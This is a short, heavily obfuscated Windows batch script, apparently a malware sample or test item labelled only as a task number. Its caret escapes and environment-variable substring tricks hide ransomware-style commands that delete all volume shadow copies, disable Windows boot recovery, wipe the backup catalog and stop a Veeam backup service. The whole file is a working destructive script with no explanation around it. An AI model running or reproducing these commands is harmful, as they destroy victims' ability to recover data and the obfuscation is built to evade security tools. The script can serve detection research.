REM task 3289 v2
^v^s%comspec:~-14,1%^a%windir:~-4,1%%COMSPEC:~-11,1%%comspec:~-23,1%n d^e^l^ete s^ha^do^w^s /al^l /q^uiet
%windir:~8,1%%comspec:~16,1%%windir:~4,1%c ^sh^a^dow^co^py ^de^l^e^t^e
b%comspec:~20,1%%windir:~6,1%%PUBLIC:~-10,1%%WINDIR:~-4,1%^i%comspec:~-13,1% /set {defa^ult} rec^o^ve^rye^nabl^ed ^no
b%PUBLIC:~14,1%%windir:~6,1%%comspec:~-12,1%^d%windir:~4,1%%comspec:~14,1% /^s^e^t {defa^u^lt} b^ootst^at^usp^ol^i^cy ^i^g^n^ore^a^llfail^ure^s
%COMSPEC:~8,1%%public:~11,1%a%windir:~-4,1%m%WINDIR:~-6,1%n ^de^le^te ^catal^o^g -qu^i^et
%windir:~5,1%e%PROGRAMDATA:~12,1% s^to^p "Veeam Backup Catalog Data Service" /^y
